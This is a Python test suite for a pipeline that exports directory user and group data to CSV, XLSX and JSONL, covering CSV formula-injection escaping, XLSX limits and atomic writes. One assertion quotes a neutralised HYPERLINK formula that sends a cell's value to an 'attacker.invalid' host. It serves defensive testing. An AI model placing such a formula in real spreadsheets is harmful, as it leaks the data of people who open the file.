from __future__ import annotations

import logging
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import orjson
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.atomic import atomic_path
from pipeline.errors import PipelineError
from pipeline.export import write_csv, write_jsonl, write_xlsx
from pipeline.sheets import read_sheet

DATA = Path(__file__).parent / "data"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
C14_COLUMNS = [
    "userName",
    "displayName",
    "title",
    "nickName",
    "phoneNumbers.work",
    "department",
    "employeeNumber",
]


def c14_frame() -> pd.DataFrame:
    """The formula-like users of case C14, flattened by hand."""
    body = orjson.loads((DATA / "c14_users_formula_like.json").read_bytes())["body"]
    rows = []
    for user in body["Resources"]:
        enterprise = user.get(ENTERPRISE, {})
        rows.append(
            [
                user["userName"],
                user["displayName"],
                user["title"],
                user.get("nickName"),
                user["phoneNumbers"][0]["value"],
                enterprise.get("department"),
                enterprise.get("employeeNumber"),
            ]
        )
    return pd.DataFrame(rows, columns=C14_COLUMNS, dtype=object)


def sheet_values(path: Path, name: str = "Users") -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    return [[cell.value for cell in row] for row in book[name].iter_rows()]


def frame_values(frame: pd.DataFrame) -> list[list[Any]]:
    return [list(frame.columns), *frame.astype(object).values.tolist()]


def test_c14_xlsx_has_no_formula_and_every_value_byte_for_byte(
    tmp_path: Path,
) -> None:
    frame = c14_frame()
    path = tmp_path / "roster.xlsx"

    write_xlsx({"Users": frame}, path)

    sheet = openpyxl.load_workbook(path)["Users"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert sheet_values(path) == frame_values(frame)
    assert sheet["B2"].value == "=== Contractors ==="
    assert sheet["E2"].value == "+1 415 555 0100"
    assert sheet["G2"].value == "-0042"
    assert sheet["E3"].value == "-"


def test_c14_xlsx_reads_back_through_read_sheet_and_pandas(tmp_path: Path) -> None:
    frame = c14_frame()
    path = tmp_path / "roster.xlsx"
    write_xlsx({"Users": frame}, path)

    back = read_sheet(path).frame
    by_pandas = pd.read_excel(path, dtype=object, keep_default_na=False)

    assert back.values.tolist() == frame.values.tolist()
    assert by_pandas.replace("", None).values.tolist() == frame.values.tolist()


@pytest.mark.parametrize("excel_safe", [False, True])
def test_c14_csv_reads_back_to_the_same_values(
    tmp_path: Path, excel_safe: bool
) -> None:
    frame = c14_frame()
    path = tmp_path / "users.csv"

    write_csv(frame, path, excel_safe=excel_safe)

    back = read_sheet(path).frame
    assert back.columns.tolist() == C14_COLUMNS
    assert back.index.tolist() == [2, 3]
    assert back.values.tolist() == frame.values.tolist()


def test_excel_safe_csv_quotes_formula_like_text(tmp_path: Path) -> None:
    path = tmp_path / "users.csv"

    write_csv(c14_frame(), path, excel_safe=True)

    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1] == (
        "lena.brook@example.com,'=== Contractors ===,"
        '"\'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""Details"")",'
        "'@lena,'+1 415 555 0100,'-Ops-,'-0042"
    )
    assert lines[2] == "omar.haddad@example.com,Omar Haddad,'+1 escalation,,'-,,"


def test_plain_csv_writes_values_verbatim(tmp_path: Path) -> None:
    path = tmp_path / "users.csv"

    write_csv(c14_frame(), path)

    assert path.read_bytes().split(b"\r\n")[2] == (
        b"omar.haddad@example.com,Omar Haddad,+1 escalation,,-,,"
    )


def test_csv_bytes_bom_quoting_crlf_and_types(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "id": ["1", "2", "3"],
            "userName": ['a,"b"', "c\nd", "Zoë"],
            "active": [True, None, False],
            "count": [3.0, np.nan, 0.25],
            "members": [7, 0, 12],
        }
    )
    frame["active"] = frame["active"].astype(object)
    path = tmp_path / "users.csv"

    write_csv(frame, path)

    assert path.read_bytes() == (
        b"\xef\xbb\xbfid,userName,active,count,members\r\n"
        b'1,"a,""b""",true,3,7\r\n'
        b'2,"c\nd",,,0\r\n'
        b"3,Zo\xc3\xab,false,0.25,12\r\n"
    )


TRICKY = [
    "plain",
    '"quoted"',
    "comma, inside",
    "semi;colon",
    "tab\there",
    "line\nbreak",
    "crlf\r\nbreak",
    "'=x",
    "''+1",
    "O'Brien",
    "=1+2",
    "-",
    "@home",
    "NA",
    "nan",
    "0042",
    "_x0041_",
    "Zoë Ærø 😀",
]


@pytest.mark.parametrize("excel_safe", [False, True])
def test_csv_round_trip_of_tricky_text(tmp_path: Path, excel_safe: bool) -> None:
    frame = pd.DataFrame({"title": TRICKY, "n": range(len(TRICKY))}, dtype=object)
    path = tmp_path / "t.csv"

    write_csv(frame, path, excel_safe=excel_safe)

    back = read_sheet(path).frame
    assert back["title"].tolist() == TRICKY
    assert back["n"].tolist() == [str(n) for n in range(len(TRICKY))]


def test_xlsx_round_trip_of_tricky_text(tmp_path: Path) -> None:
    texts = [*TRICKY, " lead", "trail ", "<b>&amp;</b>", "a_x000D_b", "cr\ronly"]
    frame = pd.DataFrame({"title": texts})
    path = tmp_path / "t.xlsx"

    write_xlsx({"Users": frame}, path)

    assert [row[0] for row in sheet_values(path)[1:]] == texts
    by_pandas = pd.read_excel(path, dtype=object, keep_default_na=False)
    assert by_pandas["title"].tolist() == texts


TRIMMED_TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1).map(
    str.strip
)
XML_TEXT = st.text(
    st.characters(
        exclude_categories=["Cs"],
        exclude_characters=[chr(c) for c in range(32) if chr(c) not in "\t\n\r"]
        + ["\ufffe", "\uffff"],
    ),
    min_size=1,
).filter(lambda text: "x005F_" not in text)
ROUND_TRIP = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@ROUND_TRIP
@given(values=st.lists(TRIMMED_TEXT.filter(bool), min_size=1, max_size=4))
def test_any_trimmed_text_survives_csv(tmp_path: Path, values: list[str]) -> None:
    for excel_safe in (False, True):
        path = tmp_path / "any.csv"
        write_csv(pd.DataFrame({"v": values}), path, excel_safe=excel_safe)

        assert read_sheet(path).frame["v"].tolist() == values


@ROUND_TRIP
@given(values=st.lists(XML_TEXT, min_size=1, max_size=4))
def test_any_xml_text_survives_xlsx(tmp_path: Path, values: list[str]) -> None:
    path = tmp_path / "any.xlsx"

    write_xlsx({"Users": pd.DataFrame({"v": values})}, path)

    assert [row[0] for row in sheet_values(path)[1:]] == values


def test_xlsx_layout_and_types(tmp_path: Path) -> None:
    users = pd.DataFrame(
        {
            "userName": ["ana@example.com", "bo@example.com"],
            "active": pd.Series([True, None], dtype=object),
            "note": ["x" * 100, None],
        }
    )
    groups = pd.DataFrame(
        {"id": ["g1"], "displayName": ["Staff"], "externalId": [None], "members": [2]}
    )
    path = tmp_path / "roster.xlsx"

    write_xlsx({"Users": users, "Groups": groups}, path)

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Users", "Groups"]
    sheet = book["Users"]
    assert [cell.font.b for cell in sheet[1]] == [True, True, True]
    assert sheet["A2"].font.b is False
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert [sheet.column_dimensions[c].width for c in "ABC"] == [17, 10, 60]
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [
        ("ana@example.com", "s"),
        (True, "b"),
        ("x" * 100, "s"),
    ]
    assert sheet["A2"].number_format == "@"
    assert [cell.value for cell in sheet[3]] == ["bo@example.com", None, None]
    assert book["Groups"].auto_filter.ref == "A1:D2"
    assert [(c.value, c.data_type) for c in book["Groups"][2]] == [
        ("g1", "s"),
        ("Staff", "s"),
        (None, "n"),
        (2, "n"),
    ]


def test_xlsx_numbers_keep_their_type(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "i": pd.Series([1, 2**60, None], dtype=object),
            "f": [0.5, np.nan, 1e20],
            "b": [np.True_, False, True],
        }
    )
    path = tmp_path / "n.xlsx"

    write_xlsx({"Members": frame}, path)

    assert sheet_values(path, "Members")[1:] == [
        [1, 0.5, True],
        ["1152921504606846976", None, False],
        [None, 1e20, True],
    ]


def test_xlsx_of_an_empty_frame_has_its_header(tmp_path: Path) -> None:
    path = tmp_path / "e.xlsx"

    write_xlsx({"Members": pd.DataFrame(columns=["groupId", "memberId"])}, path)

    sheet = openpyxl.load_workbook(path)["Members"]
    assert sheet_values(path, "Members") == [["groupId", "memberId"]]
    assert sheet.auto_filter.ref == "A1:B1"


def test_xlsx_removes_characters_xml_forbids_with_a_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    frame = pd.DataFrame(
        {
            "id": ["u1", "u2"],
            "userName": ["bad@example.com", None],
            "displayName": ["A\x00B\x1bC\tD", "E\x0bF"],
        }
    )
    path = tmp_path / "roster.xlsx"

    with caplog.at_level(logging.WARNING, logger="pipeline.export"):
        write_xlsx({"Users": frame}, path)

    assert [row[2] for row in sheet_values(path)[1:]] == ["ABC\tD", "EF"]
    assert caplog.messages == [
        "roster.xlsx: removed characters an XLSX cannot hold from sheet 'Users', "
        "column 'displayName' of userName 'bad@example.com'",
        "roster.xlsx: removed characters an XLSX cannot hold from sheet 'Users', "
        "column 'displayName' of row 3",
    ]


def test_xlsx_warning_names_the_id_without_user_name(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    frame = pd.DataFrame({"id": ["g7"], "displayName": ["Team\x07"]})

    with caplog.at_level(logging.WARNING, logger="pipeline.export"):
        write_xlsx({"Groups": frame}, tmp_path / "g.xlsx")

    assert caplog.messages == [
        "g.xlsx: removed characters an XLSX cannot hold from sheet 'Groups', "
        "column 'displayName' of id 'g7'"
    ]


@pytest.mark.parametrize(
    ("text", "kept"),
    [("x" * 40_000, "x" * 32_767), ("😀" * 20_000, "😀" * 16_383)],
)
def test_xlsx_cuts_a_too_long_cell_with_a_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, text: str, kept: str
) -> None:
    frame = pd.DataFrame({"userName": ["a@x"], "groups": [text]})
    path = tmp_path / "roster.xlsx"

    with caplog.at_level(logging.WARNING, logger="pipeline.export"):
        write_xlsx({"Users": frame}, path)

    assert sheet_values(path)[1][1] == kept
    assert caplog.messages == [
        "roster.xlsx: cut sheet 'Users', column 'groups' of userName 'a@x' to 32,767 "
        "characters, the most an Excel cell holds; the CSV and JSONL keep the full "
        "value"
    ]


def test_xlsx_refuses_more_rows_than_a_sheet_holds(tmp_path: Path) -> None:
    frame = pd.DataFrame({"userName": ["a", "b", "c"]})
    path = tmp_path / "roster.xlsx"

    with pytest.raises(PipelineError) as caught:
        write_xlsx({"Users": frame.iloc[:2], "Members": frame}, path, max_rows=3)

    assert str(caught.value) == (
        "sheet 'Members' needs 4 rows with its header, more than the 3 an Excel sheet "
        "holds; export it as CSV or JSON instead"
    )
    assert list(tmp_path.iterdir()) == []


def test_xlsx_accepts_a_sheet_exactly_full(tmp_path: Path) -> None:
    path = tmp_path / "roster.xlsx"

    write_xlsx({"Users": pd.DataFrame({"userName": ["a", "b"]})}, path, max_rows=3)

    assert sheet_values(path) == [["userName"], ["a"], ["b"]]


@pytest.mark.parametrize("name", ["", "a" * 32, "Users/2024", "'quoted'"])
def test_xlsx_refuses_a_bad_sheet_name(tmp_path: Path, name: str) -> None:
    with pytest.raises(PipelineError, match="cannot name an Excel sheet"):
        write_xlsx({name: pd.DataFrame({"a": [1]})}, tmp_path / "x.xlsx")


def test_jsonl_writes_each_resource_as_given(tmp_path: Path) -> None:
    resources = [
        {"id": "x01", "name": {"givenName": "Zoë"}, "active": True},
        {"id": "x02", "emails": [], "meta": {"version": 'W/"3"'}},
    ]
    path = tmp_path / "users.jsonl"

    assert write_jsonl(iter(resources), path) == 2

    assert path.read_bytes() == (
        b'{"id":"x01","name":{"givenName":"Zo\xc3\xab"},"active":true}\n'
        b'{"id":"x02","emails":[],"meta":{"version":"W/\\"3\\""}}\n'
    )
    lines = path.read_bytes().splitlines()
    assert [orjson.loads(line) for line in lines] == resources


def test_writer_failure_leaves_no_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "users.jsonl"
    path.write_text("old backup\n")

    def resources() -> Iterator[dict[str, Any]]:
        yield {"id": "x01"}
        raise RuntimeError("connection lost")

    with pytest.raises(RuntimeError, match="connection lost"):
        write_jsonl(resources(), path)

    assert path.read_text() == "old backup\n"
    assert [p.name for p in tmp_path.iterdir()] == ["users.jsonl"]


def test_atomic_path_failure_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "roster.xlsx"

    with pytest.raises(KeyboardInterrupt), atomic_path(target) as temp:
        temp.write_bytes(b"half a file")
        raise KeyboardInterrupt

    assert list(tmp_path.iterdir()) == []


def test_atomic_path_replaces_the_file_with_the_asked_mode(tmp_path: Path) -> None:
    target = tmp_path / "users.csv"
    target.write_text("old")

    with atomic_path(target, mode=0o600) as temp:
        assert temp.parent == tmp_path
        assert temp != target
        temp.write_text("new")

    assert target.read_text() == "new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["users.csv"]


def test_atomic_path_default_mode_follows_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        with atomic_path(tmp_path / "a.csv") as temp:
            temp.write_text("x")
    finally:
        os.umask(old)

    assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o640


def test_writers_pass_the_mode_on(tmp_path: Path) -> None:
    frame = pd.DataFrame({"userName": ["a@x"]})

    write_csv(frame, tmp_path / "u.csv", mode=0o600)
    write_xlsx({"Users": frame}, tmp_path / "r.xlsx", mode=0o600)
    write_jsonl([{"id": "1"}], tmp_path / "u.jsonl", mode=0o600)

    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir()}
    assert modes == {"u.csv": 0o600, "r.xlsx": 0o600, "u.jsonl": 0o600}


def test_missing_folder_is_an_error_saying_so(tmp_path: Path) -> None:
    with pytest.raises(PipelineError) as caught:
        write_csv(pd.DataFrame({"a": ["1"]}), tmp_path / "nope" / "users.csv")

    assert str(caught.value) == (
        f"cannot write {tmp_path / 'nope' / 'users.csv'}: No such file or directory; "
        "check that the folder exists and is writable"
    )
